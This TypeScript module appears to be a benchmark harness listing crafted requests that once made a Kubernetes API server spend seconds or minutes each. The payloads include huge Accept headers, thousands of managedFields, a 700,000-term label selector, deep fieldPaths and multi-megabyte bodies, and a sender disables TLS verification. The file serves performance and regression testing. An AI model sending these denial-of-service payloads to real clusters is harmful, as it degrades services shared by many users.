/** Requests that once cost the server, and with it all clients, seconds or minutes each. */
import { Agent, request } from 'node:https';
import type { Attack, Preparation } from './attack.ts';
import { ATTACKS_WITH_OBJECTS, OBJECTS_BEFORE } from './attack-objects.ts';
import { TOKEN } from './bench-server.ts';

const MAPS = '/api/v1/namespaces/default/configmaps';
const PODS = '/api/v1/namespaces/default/pods?dryRun=All';
const REVIEWS = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews';
const DEFINITIONS = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions';

const textOf = (length: number, pieceAt: (at: number) => string, between = ','): string =>
  Array.from({ length }, (_, at) => pieceAt(at)).join(between);

function managersOf(count: number): unknown[] {
  return Array.from({ length: count }, (_, at) => ({
    manager: `m${String(at)}`,
    operation: 'Update',
    apiVersion: 'v1',
    time: '2026-01-02T03:04:05Z',
    fieldsType: 'FieldsV1',
    fieldsV1: { 'f:data': { [`f:k${String(at)}`]: {} } },
  }));
}

function mapWith(name: string, more: object): string {
  return JSON.stringify({ kind: 'ConfigMap', apiVersion: 'v1', metadata: { name }, ...more });
}

function podWith(container: object): string {
  const containers = [{ name: 'main', image: 'a', ...container }];
  return JSON.stringify({
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: { name: 'a' },
    spec: { containers },
  });
}

function reviewWith(metadata: object, attributes: object): string {
  const spec = { resourceAttributes: { verb: 'get', resource: 'pods', ...attributes } };
  return JSON.stringify({
    kind: 'SelfSubjectAccessReview',
    apiVersion: 'authorization.k8s.io/v1',
    metadata,
    spec,
  });
}

const keysOf = (count: number): object =>
  Object.fromEntries(Array.from({ length: count }, (_, at) => [`k${String(at)}`, 'v']));

const RULED = {
  kind: 'CustomResourceDefinition',
  apiVersion: 'apiextensions.k8s.io/v1',
  metadata: { name: 'things.attacks.example.com' },
  spec: {
    group: 'attacks.example.com',
    scope: 'Namespaced',
    names: { plural: 'things', singular: 'thing', kind: 'Thing', listKind: 'ThingList' },
    versions: [
      {
        name: 'v1',
        served: true,
        storage: true,
        schema: {
          openAPIV3Schema: {
            type: 'object',
            properties: {
              text: {
                type: 'string',
                maxLength: 64,
                'x-kubernetes-validations': [{ rule: 'double(self) >= 0.0' }],
              },
            },
          },
        },
      },
    ],
  },
};

/** What the server has before it is attacked. */
export const PREPARATIONS: readonly Preparation[] = [
  ['POST', DEFINITIONS, RULED],
  // Admission of pods asks for it; controllers make it elsewhere.
  [
    'POST',
    '/api/v1/namespaces/default/serviceaccounts',
    { kind: 'ServiceAccount', apiVersion: 'v1', metadata: { name: 'default' } },
  ],
  ...OBJECTS_BEFORE,
];

export const ATTACKS: readonly Attack[] = [
  // What any small request that is refused costs: no attack, but what the next ones are held against.
  { name: 'nothing-anonymous', method: 'GET', path: '/api', isAnonymous: true },
  {
    name: 'quantity-of-two',
    method: 'POST',
    path: PODS,
    body: () => podWith({ resources: { limits: { cpu: '1!' } } }),
  },
  {
    name: 'accept-48k',
    method: 'GET',
    path: '/api',
    isAnonymous: true,
    headers: { accept: textOf(6_000, (at) => (at < 3_000 ? '*/*' : `a/b${String(at)}`)).slice(0, 48_000) },
  },
  {
    name: 'quantity-4k',
    method: 'POST',
    path: PODS,
    body: () => podWith({ resources: { limits: { cpu: `${'1'.repeat(4_000)}!` } } }),
  },
  {
    name: 'review-8000-managers',
    method: 'POST',
    path: REVIEWS,
    body: () => reviewWith({ managedFields: managersOf(8_000) }, {}),
  },
  {
    name: 'configmap-15000-managers',
    method: 'POST',
    path: `${MAPS}?dryRun=All`,
    body: () => mapWith('a', { metadata: { name: 'a', managedFields: managersOf(15_000) } }),
  },
  {
    name: 'cel-double-30',
    method: 'POST',
    path: '/apis/attacks.example.com/v1/namespaces/default/things?dryRun=All',
    body: () =>
      JSON.stringify({
        kind: 'Thing',
        apiVersion: 'attacks.example.com/v1',
        metadata: { name: 'a' },
        text: `${'1'.repeat(29)}!`,
      }),
  },
  {
    name: 'field-path',
    method: 'POST',
    path: PODS,
    body: () => {
      const fieldPath = `metadata.annotations['${"a']['".repeat(10_000)}!`;
      return podWith({ env: [{ name: 'A', valueFrom: { fieldRef: { fieldPath } } }] });
    },
  },
  {
    name: 'raw-selector-700000',
    method: 'POST',
    path: REVIEWS,
    body: () => reviewWith({}, { labelSelector: { rawSelector: textOf(700_000, () => 'a=b') } }),
  },
  {
    name: 'configmap-60000-keys',
    method: 'POST',
    path: `${MAPS}?dryRun=All`,
    body: () => mapWith('a', { data: keysOf(60_000) }),
  },
  {
    name: 'configmap-3m',
    method: 'POST',
    path: `${MAPS}?dryRun=All`,
    body: () => mapWith('a', { data: keysOf(180_000) }),
  },
  {
    name: 'pod-3m-of-containers',
    method: 'POST',
    path: PODS,
    body: () =>
      JSON.stringify({
        kind: 'Pod',
        apiVersion: 'v1',
        metadata: { name: 'a' },
        spec: {
          containers: Array.from({ length: 80_000 }, (_, at) => ({ name: `c${String(at)}`, image: 'a' })),
        },
      }),
  },
  {
    name: 'service-families-1m',
    method: 'POST',
    path: '/api/v1/namespaces/default/services?dryRun=All',
    body: () =>
      JSON.stringify({
        kind: 'Service',
        apiVersion: 'v1',
        metadata: { name: 'a' },
        spec: { ports: [{ port: 1 }], ipFamilies: Array.from({ length: 90_000 }, (_, at) => `f${String(at)}`) },
      }),
  },
  {
    name: 'json-2m-of-one-key',
    method: 'POST',
    path: `${MAPS}?dryRun=All`,
    body: () => {
      const entries = textOf(150_000, (at) => `"k":"v${String(at)}"`);
      return `{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"a"},"data":{${entries}}}`;
    },
  },
  {
    name: 'yaml-30000-keys',
    method: 'POST',
    path: `${MAPS}?dryRun=All`,
    headers: { 'content-type': 'application/yaml' },
    body: () => `kind: ConfigMap\napiVersion: v1\nmetadata: {name: a}\ndata:\n${textOf(30_000, (at) => `  k${String(at)}: ${'v'.repeat(80)}`, '\n')}\n`,
  },
  ...ATTACKS_WITH_OBJECTS,
]; // prettier-ignore

const agent = new Agent({ keepAlive: true, rejectUnauthorized: false });
const bodies = new Map<string, string>();

/** @returns the code of the answer, or of the error when the connection ended without one. */
export function sendAttack(url: string, attack: Attack, token = TOKEN): Promise<string> {
  const { name, method, path, headers = {}, isAnonymous = false } = attack;
  const body = bodies.get(name) ?? attack.body?.() ?? '';
  bodies.set(name, body);
  const authorization = isAnonymous ? {} : { authorization: `Bearer ${token}` };
  const all = { 'content-type': 'application/json', ...headers, ...authorization };
  return new Promise((resolve) => {
    request(url + path, { agent, headers: all, method }, (answer) => {
      answer.resume();
      answer.on('end', () => {
        resolve(String(answer.statusCode));
      });
    })
      .on('error', (error: NodeJS.ErrnoException) => {
        resolve(error.code ?? 'error');
      })
      .end(body);
  });
}
